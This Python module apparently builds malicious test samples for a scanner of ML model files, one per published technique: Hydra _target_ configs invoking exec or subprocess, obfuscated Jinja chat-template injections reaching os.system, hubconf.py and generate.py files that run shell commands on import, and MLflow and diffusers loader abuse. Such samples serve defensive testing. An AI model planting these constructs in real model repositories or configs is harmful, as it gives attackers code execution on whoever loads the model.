"""Published configuration and repository-code techniques: Hydra ``_target_`` (Unit 42), chat-template
SSTI follow-ups (CVE-2024-34359), hubconf.py / custom_generate / cross-repo auto_map.
Registered on import; see ``build_advisories``."""

from __future__ import annotations

import json

from advisory_core import (
    Advisory,
    adv,
    advisory,
    tar_bytes,
    tar_info,
)
from build_malicious import (
    PY_SRC,
    SHELL_CMD,
    Asm,
    torch_zip,
)


@advisory
def nemo_hydra_target_yaml() -> list[Advisory]:
    # Unit 42 (2026-01) / NVIDIA NeMo CVE-2025-23304: a .nemo tarball whose model_config.yaml names a
    # callable in a Hydra `_target_`; restore_from() instantiates it.
    cfg = (
        "target: nemo.collections.asr.models.EncDecCTCModel\n"
        'encoder:\n  _target_: builtins.exec\n  _args_:\n    - "' + PY_SRC.replace('"', '\\"') + '"\n'
    )
    data = tar_bytes(
        [tar_info("./model_config.yaml"), tar_info("./model_weights.ckpt")],
        [cfg.encode(), torch_zip(Asm(2).val({"w": 1}).done())],
    )
    return adv(
        "cve_2025_23304_nemo_hydra_target",
        "CVE-2025-23304 (Unit 42 Hydra)",
        "2026-01",
        data,
        None,
        "Hydra _target_ naming builtins.exec inside a .nemo model config.",
        component="templates",
        filename="model.nemo",
    )


@advisory
def hf_config_hydra_target_json() -> list[Advisory]:
    # Unit 42 (2026-01, uni2TS / FlexTok): config.json with Hydra `_target_` entries instantiated on load.
    cfg = {"model": {"_target_": "subprocess.run", "args": ["sh", "-c", SHELL_CMD]}}
    return adv(
        "unit42_hf_config_hydra_target",
        "Unit 42 Hydra _target_ (uni2TS)",
        "2026-01",
        json.dumps(cfg).encode(),
        None,
        "HF config.json whose _target_ names subprocess.run.",
        component="templates",
        filename="config.json",
    )


@advisory
def cve_2024_34359_chat_template_variants() -> list[Advisory]:
    # CVE-2024-34359 (2024-05, llama-cpp-python) follow-ups: tokenizer_config.json chat templates that reach
    # os without naming __globals__ literally (attribute built with ~ and |attr).
    tpl = (
        "{% set g = '__glo' ~ 'bals__' %}{% set b = '__buil' ~ 'tins__' %}"
        "{{ (cycler.__init__|attr(g))[b]['__imp' ~ 'ort__']('o' ~ 's')|attr('sys' ~ 'tem')('true') }}"
    )
    cfg = {"chat_template": tpl, "bos_token": "<s>", "eos_token": "</s>"}
    out = adv(
        "cve_2024_34359_concat_attr",
        "CVE-2024-34359 follow-up (concat + attr)",
        "2024-05",
        json.dumps(cfg).encode(),
        None,
        "SSTI with names built by concatenation and |attr.",
        component="templates",
        filename="tokenizer_config.json",
    )
    tpl2 = (
        "{% set n = dict(__glo=1,bals__=2)|join %}{% set i = dict(__imp=1,ort__=2)|join %}"
        "{{ (lipsum|attr(n))['__builtins__'][i]('os').popen('true').read() }}"
    )
    out += adv(
        "issue9_dict_join_names",
        "ISSUE-9 (dict()|join names)",
        "2026-11",
        json.dumps({"chat_template": tpl2}).encode(),
        None,
        "Names built with dict(a=1)|join reach os.popen.",
        component="templates",
        filename="tokenizer_config.json",
    )
    return out


@advisory
def hubconf_and_custom_generate() -> list[Advisory]:
    # JFrog "hubconf.py" torch.hub write-up (2024) and transformers custom_generate (2025-07, trust_remote_code):
    # Python files shipped next to the model that the loader imports.
    out = adv(
        "torch_hub_hubconf_py",
        "torch.hub docs: hubconf.py is imported (trust_repo)",
        "2024-03",
        b"dependencies = ['torch']\nimport os\nos.system('" + SHELL_CMD.encode() + b"')\n",
        None,
        "torch.hub.load imports hubconf.py from the repository.",
        component="templates",
        filename="hubconf.py",
    )
    out += adv(
        "hf_custom_generate_py",
        "transformers custom_generate (2025-07)",
        "2025-07",
        b"import subprocess\nsubprocess.run(['sh', '-c', '" + SHELL_CMD.encode() + b"'])\n"
        b"def generate(model, *args, **kwargs):\n    return model.generate(*args, **kwargs)\n",
        None,
        "custom_generate/generate.py is imported by model.generate(custom_generate=repo).",
        component="templates",
        filename="generate.py",
    )
    return out


@advisory
def hf_auto_map_cross_repo() -> list[Advisory]:
    # Hugging Face auto_map "repo--module.Class" (JFrog / HiddenLayer 2024): config.json pulls code from
    # *another* repository when trust_remote_code is set.
    cfg = {"model_type": "bert", "auto_map": {"AutoModel": "attacker/payload--modeling.Evil"}}
    return adv(
        "hf_auto_map_cross_repo",
        "HF auto_map cross-repo code (2024)",
        "2024-05",
        json.dumps(cfg).encode(),
        None,
        "auto_map naming code in a different repository.",
        component="templates",
        filename="config.json",
    )


@advisory
def mlflow_loader_module_code_path() -> list[Advisory]:
    # MLflow CVE-2024-37052..37060 family (HiddenLayer 2024-06): the MLmodel pyfunc flavor names a
    # `loader_module` that mlflow imports, with `code` directories put on sys.path; the module is shipped
    # in the model folder. Written as a tar of the model folder.
    mlmodel = (
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlvet_loader\n"
        "    code: code\n    data: data\n    env: conda.yaml\n    python_version: 3.11.7\n"
        "mlflow_version: 2.14.0\nmodel_uuid: 0123456789abcdef0123456789abcdef\n"
    )
    loader = b"import os\nos.system('" + SHELL_CMD.encode() + b"')\ndef _load_pyfunc(path):\n    return None\n"
    data = tar_bytes(
        [tar_info("model/MLmodel"), tar_info("model/code/mlvet_loader.py"), tar_info("model/conda.yaml")],
        [mlmodel.encode(), loader, b"name: m\ndependencies: []\n"],
    )
    return adv(
        "mlflow_loader_module_code",
        "MLflow CVE-2024-37052..37060 family (HiddenLayer)",
        "2024-06",
        data,
        None,
        "pyfunc loader_module imported from the model's own code/ directory.",
        component="templates",
        filename="mlflow_model.tar",
    )


@advisory
def diffusers_custom_pipeline() -> list[Advisory]:
    # diffusers custom pipelines / components (trust_remote_code class, 2024): model_index.json names a
    # component as [module, class] where the module is a .py file in the repository.
    idx = {"_class_name": ["pipeline", "EvilPipeline"], "_diffusers_version": "0.30.0", "unet": ["unet", "Evil"]}
    return adv(
        "diffusers_custom_pipeline_index",
        "diffusers custom pipeline (trust_remote_code)",
        "2024-09",
        json.dumps(idx).encode(),
        None,
        "model_index.json naming repository Python modules as pipeline components.",
        component="templates",
        filename="model_index.json",
    )
